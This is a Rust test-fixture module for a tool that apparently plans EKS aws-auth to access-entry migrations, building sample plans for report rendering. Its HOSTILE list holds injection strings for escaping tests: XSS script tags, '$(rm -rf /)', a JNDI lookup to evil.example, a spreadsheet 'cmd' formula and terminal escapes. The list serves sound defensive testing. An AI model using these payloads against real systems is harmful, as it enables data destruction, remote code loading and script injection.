//! Plans to render: a small, a large and an awkward one.

use std::collections::BTreeMap;

use crate::finding::{Code, Finding};
use crate::model::access_policy::ScopeKind;
use crate::model::{
    AccessEntry, AccessScope, Arn, AuthenticationMode, Cluster, EntryType, MappingId,
    PolicyAssociation, Section,
};
use crate::plan::document::{
    AccessChange, Action, ActionKind, BindingChange, BindingEffect, Identity, Outcome,
    PlacedFinding, Plan, PlannedAccount, PlannedMapping, SCHEMA, Source, SourceKind, Summary,
    Verdict,
};

const ACCOUNT: &str = "111122223333";

/// Two mappings on a cluster without access entries, nothing open.
pub(crate) fn small() -> Plan {
    let ops = mapping("role/ops", "ops", &["system:masters"])
        .entry(entry("role/team/ops", Some("ops"), &[]).admin())
        .find(Code::RealArn, "the real ARN has the path `/team/`", "")
        .find(
            Code::MastersToPolicy,
            "`system:masters` becomes `AmazonEKSClusterAdminPolicy`",
            "",
        );
    let nodes = node("role/blue-ng-NodeInstanceRole-1ABC");
    let mut plan = plan(vec![ops, nodes]);
    plan.findings.push(PlacedFinding {
        finding: Finding::new(
            Code::ModeSwitchNeeded,
            "the cluster has no access entries yet",
            "allow the switch with `--enable-access-entries`",
        ),
        section: None,
        line: None,
        column: None,
    });
    finish(plan)
}

/// Sixty mappings of all kinds.
pub(crate) fn large() -> Plan {
    let mut mappings = vec![
        node("role/blue-ng-NodeInstanceRole-1ABC"),
        node("role/KarpenterNodeRole-blue").find(
            Code::NodeGroupsLost,
            "the group `eks-console-dashboard-full-access-group` can't be carried over on an entry of type EC2_LINUX",
            "bind its rights to `system:nodes` or to another principal",
        ),
        mapping(
            "role/AWSReservedSSO_AdministratorAccess_0a1b2c3d4e5f6071",
            "ssoadmin:{{SessionName}}",
            &["system:masters"],
        )
        .entry(
            entry(
                "role/aws-reserved/sso.amazonaws.com/eu-west-1/AWSReservedSSO_AdministratorAccess_0a1b2c3d4e5f6071",
                Some("ssoadmin:{{SessionName}}"),
                &[],
            )
            .admin(),
        ),
        mapping("role/people", "{{SessionName}}", &["devs"])
            .entry(entry("role/people", None, &["devs"]))
            .verdict(Verdict::Renamed)
            .find(
                Code::UsernameNeedsColon,
                "a session name in a username needs a colon before it, so the username `{{SessionName}}` is left to EKS",
                "",
            ),
        mapping("role/platform", "platform", &["system:masters", "argocd-admins"])
            .entry(entry("role/platform", Some("platform"), &["argocd-admins"]).admin()),
        mapping("role/audit", "audit", &["system:monitoring", "auditors"])
            .outcome(Outcome::Blocked)
            .lost()
            .find(
                Code::ReservedGroup,
                "the group `system:monitoring` begins with `system:`, which EKS keeps to itself",
                "bind its rights to another group and plan with --rename-group system:monitoring=monitoring",
            ),
        mapping("role/AWSServiceRoleForAmazonEMRContainers", "emr-containers", &[])
            .outcome(Outcome::Blocked)
            .lost()
            .find(
                Code::ServiceLinkedEmr,
                "EMR on EKS: `AWSServiceRoleForAmazonEMRContainers` is a service-linked role, for which EKS makes no access entry",
                "keep the cluster in API_AND_CONFIG_MAP, or let EMR make its own entry for new virtual clusters",
            ),
        mapping("role/drifted", "drifted", &["devs"])
            .entry(entry("role/drifted", Some("drifted"), &["devs"]))
            .outcome(Outcome::Conflict)
            .lost()
            .find(
                Code::EntryDiffers,
                "the live access entry has no groups, the mapping has `devs`",
                "plan with --on-existing update",
            ),
        mapping("role/ci/deployer", "deployer", &["deployers"])
            .outcome(Outcome::Inert)
            .nobody()
            .find(
                Code::RoleArnHasPath,
                "a role's ARN with the path `/ci/` matches nobody",
                "",
            ),
        mapping("role/fargate", "system:node:{{SessionName}}", &["system:nodes"])
            .outcome(Outcome::Skipped)
            .find(Code::LeftToEks, "EKS makes the access entry of this Fargate profile itself", ""),
        mapping("role/ready", "ready", &["viewers"])
            .entry(entry("role/ready", Some("ready"), &["viewers"]))
            .outcome(Outcome::Unchanged),
        mapping("role/tuned", "tuned", &["viewers", "editors"])
            .entry(entry("role/tuned", Some("tuned"), &["viewers", "editors"]).view_in("team-a"))
            .outcome(Outcome::Update)
            .find(Code::EntryUpdated, "the live access entry is changed, as asked", ""),
    ];
    let mut foreign = mapping("role/central-ci", "central-ci", &["deployers"])
        .entry(entry("role/central-ci", Some("central-ci"), &["deployers"]))
        .find(
            Code::NotLookedUp,
            "account 345678901234 can't be read, so the role is tried as written",
            "give a role for the look-up: --lookup-role 345678901234=ROLE_ARN",
        );
    foreign.arn = foreign.arn.replace(ACCOUNT, "345678901234");
    foreign.entry.as_mut().unwrap().principal_arn.account = "345678901234".to_owned();
    mappings.push(foreign);
    for index in mappings.len()..60 {
        let name = format!("user/team-{}/dev-{index:02}", index % 4);
        let user = format!("dev-{index:02}");
        let team = format!("team-{}", index % 4);
        let mut dev = mapping(&name, &user, &[&team]).entry(entry(&name, Some(&user), &[&team]));
        dev.id.section = Section::MapUsers;
        mappings.push(dev);
    }
    let mut plan = plan(mappings);
    plan.accounts.push(PlannedAccount {
        id: id(Section::MapAccounts, 0),
        line: 1,
        account_id: "045678901234".to_owned(),
        outcome: Outcome::Blocked,
        findings: vec![Finding::new(
            Code::MapAccounts,
            "every principal of account 045678901234 may log in today; access entries name principals one by one",
            "add the principals that need access to mapRoles or mapUsers and plan again",
        )],
    });
    plan.findings.push(PlacedFinding {
        finding: Finding::new(Code::DuplicateKey, "the key `groups` stands twice", ""),
        section: Some(Section::MapRoles),
        line: Some(41),
        column: Some(3),
    });
    finish(plan)
}

/// Texts that would break out of one format or another.
pub(crate) const HOSTILE: &[&str] = &[
    "\u{1b}[31mred\u{1b}[0m\u{1b}]0;title\u{7}",
    "before\rafter",
    "one\ntwo\n+ create     mapRoles[9]  role/fake",
    "\u{202e}gnp.exe\u{2066}x\u{2069}",
    "zero\u{200b}width\u{feff}\u{2028}\u{2029}\u{85}\u{9b}31m",
    "</script></style><script>alert(1)</script><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "`tick` ``two`` ```\nfence",
    "a|b\\|c\\\\|d",
    "$(rm -rf /)`id`${jndi:ldap://evil.example/a}",
    "@octocat #1 org/repo#2 https://evil.example www.evil.example me@evil.example",
    "![x](https://evil.example/x.png) [y](javascript:alert(1)) **bold** _it_ <b>",
    "=cmd|'/c calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "'=quoted",
    "yes",
    "0123",
    "1e3",
    "~",
    "- a: {b: [c]} # d",
    "&anchor *alias !!tag %dir",
    "役割-\u{1f512}-ローカル管理者",
    "e\u{301}\u{301}\u{301}",
    "aws-auth-migrate-text-0-xxxx",
    "\u{e0041}\u{e0042}",
    "   ",
    "\\x01\\u202e",
];

/// Every hostile text once in every place that takes text.
pub(crate) fn awkward() -> Plan {
    let mut texts: Vec<String> = HOSTILE.iter().map(|&text| text.to_owned()).collect();
    texts.push("n".repeat(300));
    texts.push(format!("{}!{}", "n".repeat(150), "n".repeat(150)));
    texts.push(format!("{}?{}", "n".repeat(150), "n".repeat(150)));
    with_texts(&texts)
}

/// A mapping for every text, which stands in every place that takes text.
pub(crate) fn with_texts(texts: &[String]) -> Plan {
    let mappings = texts
        .iter()
        .enumerate()
        .map(|(index, text)| {
            let mut hostile = mapping("role/x", text, &[text, "devs"])
                .entry(entry(&format!("role/{text}"), Some(text), &[text]).view_in(text))
                .find(Code::NotLookedUp, text, text)
                .find(Code::RealArn, &format!("the name `{text}` is said"), "");
            hostile.arn = if index % 2 == 0 {
                text.clone()
            } else {
                format!("arn:aws:iam::{ACCOUNT}:role/{text}")
            };
            if let Some(entry) = &mut hostile.entry {
                entry.tags.insert(text.clone(), text.clone());
            }
            hostile.access.bindings = Some(vec![BindingChange {
                kind: "RoleBinding".to_owned(),
                namespace: Some(text.clone()),
                name: text.clone(),
                role: text.clone(),
                subject: text.clone(),
                effect: BindingEffect::Stops,
            }]);
            hostile
        })
        .collect();
    let mut plan = plan(mappings);
    let first = texts.first().cloned().unwrap_or_default();
    plan.cluster.name = Some(first.clone());
    plan.cluster.region = Some(first.clone());
    plan.cluster.platform_version = Some(first.clone());
    plan.source.resource_version = Some(first.clone());
    plan.accounts = texts
        .iter()
        .enumerate()
        .map(|(index, text)| PlannedAccount {
            id: id(Section::MapAccounts, index),
            line: index + 1,
            account_id: text.clone(),
            outcome: Outcome::Blocked,
            findings: vec![Finding::new(Code::MapAccounts, text, text)],
        })
        .collect();
    plan.findings = texts
        .iter()
        .map(|text| PlacedFinding {
            finding: Finding::new(Code::UnknownSection, text, text),
            section: Some(Section::MapRoles),
            line: Some(1),
            column: None,
        })
        .collect();
    finish(plan)
}

fn id(section: Section, index: usize) -> MappingId {
    MappingId { section, index }
}

fn iam(resource: &str) -> Arn {
    format!("arn:aws:iam::{ACCOUNT}:{resource}")
        .parse()
        .unwrap()
}

fn entry(resource: &str, username: Option<&str>, groups: &[&str]) -> AccessEntry {
    AccessEntry {
        principal_arn: iam(resource),
        entry_type: EntryType::Standard,
        username: username.map(str::to_owned),
        kubernetes_groups: groups.iter().map(|&group| group.to_owned()).collect(),
        tags: BTreeMap::new(),
        access_policies: Vec::new(),
    }
}

impl AccessEntry {
    fn admin(mut self) -> Self {
        let policy = PolicyAssociation::cluster_wide("aws", "AmazonEKSClusterAdminPolicy");
        self.access_policies.push(policy);
        self
    }

    fn view_in(mut self, namespace: &str) -> Self {
        let mut policy = PolicyAssociation::cluster_wide("aws", "AmazonEKSViewPolicy");
        policy.access_scope = AccessScope {
            kind: ScopeKind::Namespace,
            namespaces: vec![namespace.to_owned()],
        };
        self.access_policies.push(policy);
        self
    }
}

fn mapping(resource: &str, username: &str, groups: &[&str]) -> PlannedMapping {
    let groups: Vec<String> = groups.iter().map(|&group| group.to_owned()).collect();
    PlannedMapping {
        id: id(Section::MapRoles, 0),
        line: 0,
        arn: iam(resource).to_string(),
        username: username.to_owned(),
        groups: groups.clone(),
        outcome: Outcome::Create,
        findings: Vec::new(),
        entry: None,
        access: AccessChange {
            before: Some(Identity {
                username: username.to_owned(),
                groups: groups.clone(),
                policies: Vec::new(),
            }),
            after: Some(Identity {
                username: username.to_owned(),
                groups,
                policies: Vec::new(),
            }),
            verdict: Some(Verdict::Same),
            bindings: None,
        },
    }
}

fn node(resource: &str) -> PlannedMapping {
    let groups = ["system:bootstrappers", "system:nodes"];
    let mut entry = entry(resource, None, &[]);
    entry.entry_type = EntryType::Ec2Linux;
    let mut node = mapping(resource, "system:node:{{EC2PrivateDNSName}}", &groups).find(
        Code::NodeEntry,
        "a node role becomes an entry of the type `EC2_LINUX`",
        "",
    );
    node.entry = Some(entry);
    node
}

impl PlannedMapping {
    fn entry(mut self, entry: AccessEntry) -> Self {
        self.access.after = Some(Identity {
            username: entry.username.clone().unwrap_or_default(),
            groups: entry.kubernetes_groups.clone(),
            policies: entry
                .access_policies
                .iter()
                .map(crate::report::words::policy)
                .collect(),
        });
        self.entry = Some(entry);
        self
    }

    fn outcome(mut self, outcome: Outcome) -> Self {
        self.outcome = outcome;
        self
    }

    fn verdict(mut self, verdict: Verdict) -> Self {
        self.access.verdict = Some(verdict);
        self
    }

    fn lost(mut self) -> Self {
        self.access.after = None;
        self.verdict(Verdict::Lost)
    }

    fn nobody(mut self) -> Self {
        self.access = AccessChange::default();
        self
    }

    fn find(mut self, code: Code, message: &str, fix: &str) -> Self {
        self.findings.push(Finding::new(code, message, fix));
        self
    }
}

fn plan(mut mappings: Vec<PlannedMapping>) -> Plan {
    let mut next = BTreeMap::new();
    for mapping in &mut mappings {
        let index = next.entry(mapping.id.section).or_insert(0);
        mapping.id.index = *index;
        mapping.line = *index * 4 + 1;
        *index += 1;
    }
    Plan {
        schema: SCHEMA.to_owned(),
        tool_version: "0.1.0".to_owned(),
        created_at: "2026-01-15T09:30:00Z".parse().unwrap(),
        cluster: Cluster {
            name: Some("prod".to_owned()),
            arn: Some(format!("arn:aws:eks:eu-west-1:{ACCOUNT}:cluster/prod")),
            region: Some("eu-west-1".to_owned()),
            account_id: Some(ACCOUNT.to_owned()),
            partition: "aws".to_owned(),
            authentication_mode: Some(AuthenticationMode::ConfigMap),
            platform_version: Some("eks.9".to_owned()),
            kubernetes_version: Some("1.33".to_owned()),
            status: Some("ACTIVE".to_owned()),
            auto_mode: false,
            hybrid_nodes: false,
            outpost: false,
        },
        source: Source {
            kind: SourceKind::Cluster,
            sha256: "3f5a0b9c1d2e4f60718293a4b5c6d7e8f9000102030405060708090a0b0c0d0e".to_owned(),
            resource_version: Some("184467".to_owned()),
        },
        mappings,
        actions: Vec::new(),
        accounts: Vec::new(),
        findings: Vec::new(),
        summary: Summary::default(),
        observed: BTreeMap::new(),
    }
}

/// Adds the actions that follow from the mappings, and the counts.
fn finish(mut plan: Plan) -> Plan {
    let mut actions = vec![(
        ActionKind::UpdateAuthenticationMode {
            from: AuthenticationMode::ConfigMap,
            to: AuthenticationMode::ApiAndConfigMap,
        },
        None,
        "the cluster has no access entries yet".to_owned(),
    )];
    for mapping in &plan.mappings {
        let Some(entry) = &mapping.entry else {
            continue;
        };
        if mapping.outcome != Outcome::Create {
            continue;
        }
        let create = ActionKind::CreateAccessEntry {
            principal_arn: entry.principal_arn.clone(),
            entry_type: entry.entry_type.clone(),
            username: entry.username.clone(),
            kubernetes_groups: entry.kubernetes_groups.clone(),
            tags: entry.tags.clone(),
        };
        let why = format!("{} names {}", mapping.id, mapping.arn);
        actions.push((create, Some(mapping.id), why));
        for policy in &entry.access_policies {
            let associate = ActionKind::AssociateAccessPolicy {
                principal_arn: entry.principal_arn.clone(),
                policy_arn: policy.policy_arn.clone(),
                access_scope: policy.access_scope.clone(),
            };
            let why = format!("`{}` needs it", mapping.username);
            actions.push((associate, Some(mapping.id), why));
        }
    }
    plan.actions = actions
        .into_iter()
        .enumerate()
        .map(|(index, (kind, mapping, why))| Action {
            id: format!("a{}", index + 1),
            kind,
            mapping,
            stage: crate::plan::Stage::Others,
            why,
        })
        .collect();
    let outcomes = plan.mappings.iter().map(|mapping| mapping.outcome);
    plan.summary = Summary::count(outcomes);
    plan
}
